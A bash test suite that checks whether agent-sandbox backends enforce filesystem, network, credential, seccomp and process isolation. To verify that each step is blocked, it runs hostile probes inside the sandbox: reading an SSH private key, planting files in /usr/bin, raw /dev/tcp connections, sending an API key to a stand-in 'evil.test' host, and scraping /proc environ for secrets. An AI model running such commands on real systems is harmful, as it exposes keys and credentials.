#!/usr/bin/env bash
# The backend conformance suite: one test set, run against every backend that
# can run here (tests/conformance/meson.build: bwrap, the stub fixture, runsc
# when it is built). It asks the backend what it applies (--check), asserts
# from inside the real sandbox what each applied protection promises, and
# asserts that each protection it cannot give is refused — not silently
# skipped — until the user accepts the weaker sandbox.
#
#   conformance.sh BACKEND        (ASB_CONFORMANCE_DIRS: extra plugin dirs, ':'-separated)
. "$SRC_ROOT/tests/lib.sh"

BACKEND=${1:?usage: conformance.sh BACKEND}
PDIRS=()
IFS=: read -r -a extra <<<"${ASB_CONFORMANCE_DIRS:-}"
for d in "${extra[@]}"; do [ -n "$d" ] && PDIRS+=(--plugin-dir "$d"); done
PDIRS+=(--plugin-dir "$ASB_PLUGIN_DIR")
sbx() { "$ASB" "${PDIRS[@]}" --backend "$BACKEND" "$@"; }
# In the background, with $! the launcher itself (not a subshell).
sbx_bg() { (exec "$ASB" "${PDIRS[@]}" --backend "$BACKEND" "$@") & }

WS="$TEST_TMP/ws"
mkdir -p "$WS" "$HOME/.ssh" "$HOME/rw" "$HOME/ro" "$TEST_TMP/outside"
echo "PRIVATE KEY" >"$HOME/.ssh/id_ed25519"
echo "read me" >"$HOME/ro/readme"
echo "host file" >"$TEST_TMP/outside/file"
cd "$WS" || exit 1
export CONFORMANCE_SECRET=do-not-leak

# The probe binary attempts what the seccomp filter denies.
probe_pkg=""
[ -x "${ASB_PROBE:-}" ] && probe_pkg=", \"$ASB_PROBE\""
cfg() { # name network-group [extra sandbox keys] [extra packages: , "a", "b"]
    cat >"$TEST_TMP/$1.cfg" <<CFG
sandbox: {
  command = "bash";
  packages = [ "cat"$probe_pkg${4:-} ];
  rw_dirs = [ "\$HOME/rw" ];
  ro_dirs = [ "\$HOME/ro" ];
  env = { DECLARED = "yes"; };
  ${3:-}
};
network: { $2 };
CFG
}
cfg off 'enabled = false;'
cfg filtered 'allowed_domains = ( "example.test" );'
cfg open ''
cfg limits 'enabled = false;' 'limits = { nofile = 321; };'
cfg landlock 'enabled = false;' 'require_landlock = true;'

check_out=$(sbx -c "$TEST_TMP/off.cfg" --check 2>&1)
if grep -q "CANNOT RUN HERE" <<<"$check_out"; then
    skip_all "backend $BACKEND cannot run here: $(grep 'CANNOT RUN HERE' <<<"$check_out" | sed 's/.*CANNOT RUN HERE: //')"
fi
# "applied", "MISSING", "not applied", "not needed" for a protection.
state() { # cfg protection
    sbx -c "$TEST_TMP/$1.cfg" --check 2>/dev/null | sed -n "s/^protection $2: \([A-Za-z ]*\):.*/\1/p" | head -1
}
diag "backend $BACKEND:"
while read -r line; do diag "  $line"; done < <(grep '^protection [a-z-]*:' <<<"$check_out")

# The protections a config needs that the backend cannot give.
missing_of() {
    sbx -c "$TEST_TMP/$1.cfg" --check 2>/dev/null | sed -n 's/^protection \([a-z-]*\): MISSING:.*/\1/p'
}
# accepting CFG [EXCEPT]: --accept-weaker for each of them (but EXCEPT).
accepting() {
    local m
    for m in $(missing_of "$1"); do [ "$m" != "${2:-}" ] && printf -- '--accept-weaker\n%s\n' "$m"; done
}

# run CFG SCRIPT: the agent's bash runs SCRIPT. What the backend cannot give
# is accepted, so that each section tests what it is about.
run() {
    local c=$1 script=$2 acc
    mapfile -t acc < <(accepting "$c")
    sbx -c "$TEST_TMP/$c.cfg" "${acc[@]}" -- -c "$script"
}

# refused CFG PROTECTION: the launch is refused, in one line naming it (the
# others missing accepted).
refused() {
    local c=$1 prot=$2 err acc
    mapfile -t acc < <(accepting "$c" "$prot")
    err=$(sbx -c "$TEST_TMP/$c.cfg" "${acc[@]}" -- -c 'exit 0' 2>&1 >/dev/null)
    local code=$?
    ok $([ $code -eq 125 ] && [ "$(wc -l <<<"$err")" -eq 1 ] &&
        grep -q "backend $BACKEND cannot give the protection \"$prot\"" <<<"$err"; echo $?) \
        "$prot: missing, and the launch is refused in one line (${err:0:160})"
}

# --- filesystem -------------------------------------------------------------
fs=$(state off filesystem)
if [ "$fs" = applied ]; then
    check "workspace is writable" -- run off 'echo hi > inside.txt'
    ok $([ "$(cat "$WS/inside.txt" 2>/dev/null)" = hi ]; echo $?) "a workspace write reaches the host"
    check "declared rw dirs are writable" -- run off 'echo kept > ~/rw/state'
    ok $([ "$(cat "$HOME/rw/state" 2>/dev/null)" = kept ]; echo $?) "rw writes persist on the host"
    check "declared ro dirs are readable" -- run off 'read -r l < ~/ro/readme && [ "$l" = "read me" ]'
    check_fails "declared ro dirs are not writable" -- run off 'echo x > ~/ro/readme'
    check_fails "a host file outside the declared paths is invisible" -- run off "cat '$TEST_TMP/outside/file'"
    check_fails "nothing can be created outside" -- run off "echo x > '$TEST_TMP/outside/new'"
    ok $([ ! -e "$TEST_TMP/outside/new" ]; echo $?) "the host shows nothing new outside"
    check_fails "~/.ssh/id_ed25519 is hidden" -- run off 'cat ~/.ssh/id_ed25519'
    check_fails "system directories are read-only" -- run off 'echo x > /usr/bin/planted'
else
    refused off filesystem
fi
if [ "$(state off ephemeral)" = applied ]; then
    check "the rest of \$HOME is writable inside" -- run off 'echo gone > ~/scratch'
    ok $([ ! -e "$HOME/scratch" ]; echo $?) "and discarded: the host's home is untouched"
    check "\$HOME starts empty (but for the declared paths)" -- run off 'shopt -s nullglob dotglob; for f in ~/*; do case ${f##*/} in rw|ro) ;; *) exit 1 ;; esac; done'
elif [ "$fs" = applied ]; then
    refused off ephemeral
fi

# --- executables and environment ----------------------------------------------
if [ "$fs" = applied ]; then
    check "declared executables are on PATH" -- run off 'command -v cat'
    check_fails "an undeclared executable is not on PATH" -- run off 'command -v curl || command -v python3 || command -v perl'
    check "PATH is only the sandbox's bin directory" -- run off 'test "$PATH" = /run/agentsandbox/bin'
    check "declared variables are set" -- run off 'test "$DECLARED" = yes'
    check_fails "the launching environment is cleared" -- run off 'test -n "$CONFORMANCE_SECRET"'
fi

# --- exit status and signals ----------------------------------------------------
if [ "$fs" = applied ]; then
    run off 'exit 7' >/dev/null 2>&1
    ok $([ $? -eq 7 ]; echo $?) "the agent's exit status passes through"
    run off 'kill -TERM $$' >/dev/null 2>&1
    ok $([ $? -eq 143 ]; echo $?) "death by a signal is 128+N"
    rm -f "$WS/got-term"
    sbx_bg -c "$TEST_TMP/off.cfg" -- -c 'trap "echo term > got-term; exit 3" TERM; echo ready > ready; while :; do sleep 0.1; done' \
        >/dev/null 2>&1
    pid=$!
    for _ in $(seq 100); do [ -e "$WS/ready" ] && break; sleep 0.1; done
    kill -TERM $pid
    wait $pid
    code=$?
    ok $([ $code -eq 3 ] && [ -e "$WS/got-term" ]; echo $?) "SIGTERM to the launcher reaches the agent (exit $code)"
    rm -f "$WS/ready"
fi

# --- processes ------------------------------------------------------------------
if [ "$(state off processes)" = applied ]; then
    sleep 300 &
    host_pid=$!
    at_exit "kill $host_pid 2>/dev/null"
    check_fails "no host process is visible" -- run off "test -e /proc/$host_pid/cmdline"
    check_fails "no host process can be signalled" -- run off "kill -0 $host_pid"
    kill $host_pid 2>/dev/null
else
    ok 0 "processes: not applied by $BACKEND (reported, not required)"
fi

# --- network ----------------------------------------------------------------
net=$(state off network)
if [ "$net" = applied ]; then
    # A listener on the host's loopback and on a host address: unreachable
    # with the network off.
    python3 -c 'import socket,time,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 0)); s.listen(5)
print(s.getsockname()[1], flush=True); time.sleep(120)' >"$TEST_TMP/port" &
    lpid=$!
    at_exit "kill $lpid 2>/dev/null"
    for _ in $(seq 50); do [ -s "$TEST_TMP/port" ] && break; sleep 0.1; done
    port=$(cat "$TEST_TMP/port")
    check_fails "off: the host's loopback is unreachable" -- run off "exec 3<>/dev/tcp/127.0.0.1/$port"
    hostip=$(ip -4 -o addr show scope global 2>/dev/null | awk '{print $4}' | cut -d/ -f1 | head -1)
    if [ -n "$hostip" ]; then
        check_fails "off: the host's own address is unreachable" -- run off "exec 3<>/dev/tcp/$hostip/$port"
    fi
    if [ "$(state filtered network)" = applied ]; then
        check "filtered: the proxy is reachable at \$HTTP_PROXY" -- run filtered 'exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}'
        check_fails "filtered: the host's loopback is not" -- run filtered "exec 3<>/dev/tcp/127.0.0.1/$port"
        [ -n "$hostip" ] && check_fails "filtered: nor the host's own address" -- run filtered "exec 3<>/dev/tcp/$hostip/$port"
    fi
    kill $lpid 2>/dev/null
else
    refused off network
    refused filtered network
fi

# --- credentials ------------------------------------------------------------------
# network.credentials with this backend: the agent holds placeholders (a
# variable, a file), the bound origin gets the real value through the proxy,
# and the placeholder sent elsewhere is refused. A backend without the
# filtered network cannot carry them: the launch is refused.
CRED_REAL=sk-ant-api03-CONFREAL$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')
FILE_REAL=CONFREALfile$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \n')
printf '%s\n' "$FILE_REAL" >"$TEST_TMP/cred-file"
export CONF_API_KEY=$CRED_REAL
cred_net='allowed_domains = ( { domain = "api.test"; @PORTS@ allow_private = true; },
    { domain = "evil.test"; @PORTS@ allow_private = true; } );
  credentials = (
    { name = "api"; value = "${CONF_API_KEY}"; domains = [ "api.test" ]; header = "x-api-key"; env = "CONF_API_KEY"; },
    { name = "tok"; value_file = "'"$TEST_TMP"'/cred-file"; domains = [ "api.test" ]; bearer = true; file = "$HOME/.config/tool/token"; }
  );'
if [ "$(state filtered network)" = applied ] && command -v curl >/dev/null && command -v openssl >/dev/null &&
    (mkdir -p "$TEST_TMP/pki" && cd "$TEST_TMP/pki" && make_test_pki api.test evil.test); then
    (cd "$TEST_TMP/pki" && exec env ASB_RECORD="$TEST_TMP/record" python3 "$SRC_ROOT/tests/proxy/servers.py" ports srv.pem srv.key 2>servers.err) &
    at_exit "kill $! 2>/dev/null"
    for _ in $(seq 100); do [ -s "$TEST_TMP/pki/ports" ] && break; sleep 0.1; done
    read -r _ SP <"$TEST_TMP/pki/ports"
    printf '127.0.0.1 api.test evil.test\n' >"$TEST_TMP/hosts"
    cfg creds "${cred_net//@PORTS@/ports = [ $SP ];} hosts_file = \"$TEST_TMP/hosts\"; upstream_ca_file = \"$TEST_TMP/pki/upca.pem\";" \
        '' ', "curl"'
    : >"$TEST_TMP/record"
    out=$(run creds '
printf "%s\n" "$CONF_API_KEY"; cat "$HOME/.config/tool/token"
curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $CONF_API_KEY" -H "Authorization: Bearer $(cat $HOME/.config/tool/token)" https://api.test:'"$SP"'/record
curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $CONF_API_KEY" https://evil.test:'"$SP"'/record
cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep -c CONFREAL' 2>"$TEST_TMP/creds.err")
    ph=$(sed -n 1p <<<"$out")
    [ "$(wc -l <<<"$out")" = 5 ] || diag "$out $(cat "$TEST_TMP/creds.err")"
    ok $([[ "$ph" == sk-ant-api03-* ]] && [ ${#ph} = ${#CRED_REAL} ] && [ "$ph" != "$CRED_REAL" ] &&
        [ "$(sed -n 2p <<<"$out")" != "$FILE_REAL" ] && [ "$(sed -n 2p <<<"$out" | wc -c)" = "$(wc -c <"$TEST_TMP/cred-file")" ]; echo $?) \
        "credentials: the variable and the file inside hold placeholders"
    ok $([ "$(sed -n 3,4p <<<"$out" | tr '\n' ' ')" = "200 403 " ]; echo $?) \
        "credentials: the bound origin answers, the placeholder to another host is refused ($(sed -n 3,4p <<<"$out" | tr '\n' ' '))"
    ok $(grep -q "^x-api-key: $CRED_REAL" "$TEST_TMP/record" && grep -q "^Authorization: Bearer $FILE_REAL" "$TEST_TMP/record" &&
        [ "$(grep -c '^GET /record' "$TEST_TMP/record")" = 1 ]; echo $?) "credentials: the origin received the real values, the other host nothing"
    ok $([ "$(sed -n 5p <<<"$out")" = 0 ] && ! grep -rqaF -e "$CRED_REAL" -e "$FILE_REAL" "$(sessions | tail -1)"; echo $?) \
        "credentials: no real value in any process's environment inside, nor in the session directory"
elif [ "$(state filtered network)" != applied ]; then
    cfg creds "${cred_net//@PORTS@/}"
    refused creds network
fi

# --- kernel hardening -----------------------------------------------------------
if [ "$(state off seccomp)" = applied ] && [ -n "$probe_pkg" ]; then
    out=$(run off 'asb-probe socket_unix unshare_user mount ptrace socket_inet' 2>&1)
    for want in "socket_unix EPERM" "unshare_user EPERM" "mount EPERM" "ptrace EPERM" "socket_inet ok"; do
        ok $(grep -qx "$want" <<<"$out"; echo $?) "seccomp: $want"
    done
elif [ "$(state off seccomp)" != applied ]; then
    ok 0 "seccomp: not applied by $BACKEND ($(state off seccomp))"
fi
case $(state off unix-sockets) in
    applied) [ -n "$probe_pkg" ] && { out=$(run off 'asb-probe socket_unix' 2>&1); ok $(grep -qx "socket_unix EPERM" <<<"$out"; echo $?) "unix sockets are denied"; } ;;
    MISSING) refused off unix-sockets ;;
esac
case $(state landlock landlock) in
    applied) check_fails "landlock: a write where only the mounts would allow it fails" -- run landlock 'echo x > /run/planted' ;;
    MISSING) refused landlock landlock ;;
esac
case $(state limits limits) in
    applied) out=$(run limits 'ulimit -n' 2>/dev/null); ok $([ "$out" = 321 ]; echo $?) "limits: nofile = 321 inside (got $out)" ;;
    MISSING) refused limits limits ;;
esac

# --- accepting a weaker sandbox ---------------------------------------------------
missing=$(missing_of off)
if [ -n "$missing" ]; then
    out=$(run off 'echo accepted-run' 2>&1)
    code=$?
    ok $([ $code -eq 0 ]; echo $?) "with --accept-weaker for each of:" $missing "it runs (exit $code)"
    log=$(cat "$(sessions | tail -1)launch.log" 2>/dev/null)
    for m in $missing; do
        ok $(grep -q "protection $m: MISSING (accepted)" <<<"$log"; echo $?) "launch.log records that $m was accepted as missing"
    done
fi
err=$(sbx -c "$TEST_TMP/off.cfg" --accept-weaker no-such-protection -- -c true 2>&1)
ok $([ $? -eq 125 ] && grep -q "unknown protection (known: filesystem," <<<"$err"; echo $?) "--accept-weaker with an unknown name is an error"

# --- nothing left behind ------------------------------------------------------------
# Every process the launch made, the backend's own included (seen from the
# host: bwrap and the agent, or runsc's sentry and gofer), is gone after the
# launcher is killed outright.
descendants() { # PID: all processes below it, now
    local p
    for p in $(pgrep -P "$1"); do
        echo "$p"
        descendants "$p"
    done
}
if [ "$fs" = applied ]; then
    rm -f "$WS/started"
    sbx_bg -c "$TEST_TMP/off.cfg" -- -c 'echo > started; while :; do sleep 1; done' >/dev/null 2>&1
    lpid=$!
    for _ in $(seq 100); do [ -e "$WS/started" ] && break; sleep 0.1; done
    ok $([ -e "$WS/started" ]; echo $?) "the agent runs (before the launcher is killed)"
    tree=$(descendants $lpid)
    kill -KILL $lpid
    wait $lpid 2>/dev/null
    left=
    for _ in $(seq 50); do
        left=
        for p in $tree; do kill -0 "$p" 2>/dev/null && left="$left $p"; done
        [ -z "$left" ] && break
        sleep 0.1
    done
    ok $([ -n "$tree" ] && [ -z "$left" ]; echo $?) \
        "SIGKILL of the launcher leaves none of its $(wc -w <<<"$tree") processes (left:${left:- none})"
    ok $([ -z "$(ls -A "$XDG_STATE_HOME/agentsandbox" 2>/dev/null | grep '^\.new-')" ]; echo $?) \
        "and no half-made state"
fi
done_testing
